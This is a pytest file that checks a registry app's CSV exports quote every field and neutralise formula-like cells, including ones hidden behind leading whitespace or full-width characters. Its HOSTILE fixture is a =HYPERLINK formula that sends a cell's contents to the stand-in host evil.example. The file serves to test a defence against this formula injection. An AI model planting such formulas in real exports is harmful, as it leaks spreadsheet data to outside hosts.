"""CSV exports quote every field and neutralise any cell a spreadsheet could run as a formula.

Before, only a formula character in the very first position was caught: " =HYPERLINK(...)"
(leading spaces, which spreadsheets skip) went out as a live formula, and fields were quoted only
when the csv module needed to.
"""

import csv

import pytest

from registry.csv_export import safe_cell
from registry.models import Controller, Subcontractor
from tests.auth_helpers import login
from tests.factories import make_user
from tests.registry_factories import make_controller, make_subcontractor

HOSTILE = '  =HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("value", [
    "=1+1", "+358 40 123", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "   @x",
    " \t+1", "\u00a0=1", "＝1+1", "＠SUM(A1)",
])
def test_formula_like_cells_are_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value, cell", [
    ("Acme Oy", "Acme Oy"), ("a = b", "a = b"), ("x-1", "x-1"), ("", ""), (None, ""), (12, "12"),
    ("name@example.test", "name@example.test"),
])
def test_ordinary_cells_are_kept(value, cell):
    assert safe_cell(value) == cell


def _lines(body):
    return body.lstrip("\ufeff").split("\r\n")[:-1]


def _assert_every_field_quoted(lines):
    for line in lines:
        fields = next(csv.reader([line]))
        assert line == ",".join('"' + field.replace('"', '""') + '"' for field in fields), line


def test_the_controller_export(app, client):
    make_controller(name=HOSTILE)
    login(client, make_user("legal"))
    body = client.get("/controllers/export.csv").get_data(as_text=True)
    lines = _lines(body)
    _assert_every_field_quoted(lines)
    assert any(line.startswith('"\'  =HYPERLINK(') for line in lines[1:])
    assert Controller.select().count() == 1


def test_the_subcontractor_export(app, client):
    make_subcontractor(name=HOSTILE, purpose=" -2+3 hosting")
    login(client, make_user("legal"))
    body = client.get("/subcontractors/export.csv").get_data().decode("utf-8-sig")
    lines = _lines(body)
    _assert_every_field_quoted(lines)
    hostile = next(line for line in lines if "HYPERLINK" in line)
    assert hostile.startswith('"\'  =HYPERLINK(')
    assert '"\' -2+3 hosting"' in hostile
    assert Subcontractor.select().count() == 1
